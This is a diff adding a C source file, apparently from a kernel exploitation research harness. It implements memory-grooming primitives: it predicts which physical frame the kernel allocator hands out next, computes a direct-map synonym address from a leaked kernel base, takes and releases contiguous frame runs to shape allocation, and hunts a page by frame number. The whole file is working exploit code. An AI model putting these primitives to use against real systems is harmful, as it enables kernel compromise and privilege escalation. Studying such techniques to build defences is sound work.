@@ -1,0 +1,144 @@
+/*
+ * Frames that go from the kernel to a program, and back: which one comes next.
+ *
+ * 2 MiB pages come from halves of 4 MiB blocks. Where two of them were the halves of one block, no
+ * half was left over; so the next page, if it is a lower half, comes from a block that was whole
+ * until then, and its upper half is what the page after it will get. An attacker needs no more than
+ * the numbers of the frames that it has.
+ */
+#include <stdlib.h>
+#include <sys/mman.h>
+
+#include "attack.h"
+
+enum {
+	FRAMES_PER_HUGE = BW_HUGE_PAGE_SIZE / BW_PAGE_SIZE,
+	FRAMES_PER_BLOCK = 2 * FRAMES_PER_HUGE,
+	CHOSEN_FRAME = 300, /* any but the first ones */
+	MOST_HUGE_PAGES = 1024,
+	MOST_HUNTED_PAGES = 1 << 15,
+	RUN_SEARCH_PAGES = 2048,
+};
+
+struct huge_page {
+	uint64_t pfn;
+	bool was_revealed; /* it came out of the direct map for this */
+};
+
+static uint64_t nr_revealed(void)
+{
+	struct bw_memory_info info = { 0 };
+
+	bw_memory_info(&info);
+	return info.nr_free_revealed;
+}
+
+static struct huge_page huge_page_take(void)
+{
+	uint64_t before = nr_revealed();
+	uint64_t pfn = attack_pfn(attack_huge_page());
+
+	return (struct huge_page){ pfn, nr_revealed() + FRAMES_PER_HUGE <= before };
+}
+
+static bool is_lower_half(uint64_t pfn) { return pfn % FRAMES_PER_BLOCK == 0; }
+
+void attack_frame_predict(const struct bw_leak *leak, struct attack_frame *frame)
+{
+	struct huge_page latest[3] = { { 0 } };
+
+	for (int i = 0; i < MOST_HUGE_PAGES; i++) {
+		latest[0] = latest[1];
+		latest[1] = latest[2];
+		latest[2] = huge_page_take();
+		if (latest[0].was_revealed && latest[1].was_revealed && latest[2].was_revealed &&
+		    is_lower_half(latest[0].pfn) && is_lower_half(latest[2].pfn) &&
+		    latest[1].pfn == latest[0].pfn + FRAMES_PER_HUGE) {
+			frame->pfn = latest[2].pfn + FRAMES_PER_HUGE + CHOSEN_FRAME;
+			frame->synonym = leak->direct_map_base + frame->pfn * BW_PAGE_SIZE;
+			return;
+		}
+	}
+	attack_skip("memory is too fragmented to tell which frame comes next");
+}
+
+void *attack_frame_take(const struct attack_frame *frame)
+{
+	char *page = attack_huge_page();
+	uint64_t first = attack_pfn(page);
+
+	if (frame->pfn < first || frame->pfn >= first + FRAMES_PER_HUGE) {
+		return NULL;
+	}
+	return page + (frame->pfn - first) * BW_PAGE_SIZE;
+}
+
+struct page {
+	uint64_t pfn;
+	void *address;
+};
+
+static int by_pfn(const void *left, const void *right)
+{
+	const struct page *a = left, *b = right;
+
+	return a->pfn < b->pfn ? -1 : a->pfn > b->pfn;
+}
+
+/*
+ * The lower half of a run of twice the size, all of it ours: what is given back cannot merge with
+ * anything, as its other half stays, so the next to ask for a run of its size gets it.
+ */
+static bool is_run(const struct page *pages)
+{
+	return pages[0].pfn % (2 * ATTACK_RUN_FRAMES) == 0 &&
+	       pages[2 * ATTACK_RUN_FRAMES - 1].pfn == pages[0].pfn + 2 * ATTACK_RUN_FRAMES - 1;
+}
+
+void attack_run_take(struct attack_run *run)
+{
+	static struct page pages[RUN_SEARCH_PAGES];
+	char *memory = attack_pages(RUN_SEARCH_PAGES * BW_PAGE_SIZE);
+
+	for (int i = 0; i < RUN_SEARCH_PAGES; i++) {
+		pages[i].address = memory + (size_t)i * BW_PAGE_SIZE;
+		pages[i].pfn = attack_pfn(pages[i].address);
+	}
+	qsort(pages, RUN_SEARCH_PAGES, sizeof(pages[0]), by_pfn);
+	for (int i = 0; i + 2 * ATTACK_RUN_FRAMES <= RUN_SEARCH_PAGES; i++) {
+		if (is_run(&pages[i])) {
+			run->first_pfn = pages[i].pfn;
+			for (int k = 0; k < ATTACK_RUN_FRAMES; k++) {
+				run->pages[k] = pages[i + k].address;
+			}
+			return;
+		}
+	}
+	attack_skip("memory is too fragmented for a run of frames");
+}
+
+void attack_run_give_back(const struct attack_run *run)
+{
+	for (int i = 0; i < ATTACK_RUN_FRAMES; i++) {
+		munmap(run->pages[i], BW_PAGE_SIZE);
+	}
+}
+
+void *attack_frame_hunt(uint64_t pfn)
+{
+	char *memory = mmap(NULL, (size_t)MOST_HUNTED_PAGES * BW_PAGE_SIZE, PROT_READ | PROT_WRITE,
+			    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+
+	if (memory == MAP_FAILED) {
+		return NULL;
+	}
+	for (int i = 0; i < MOST_HUNTED_PAGES; i++) {
+		char *page = memory + (size_t)i * BW_PAGE_SIZE;
+
+		*(volatile char *)page = 0;
+		if (attack_pfn(page) == pfn) {
+			return page;
+		}
+	}
+	return NULL;
+}
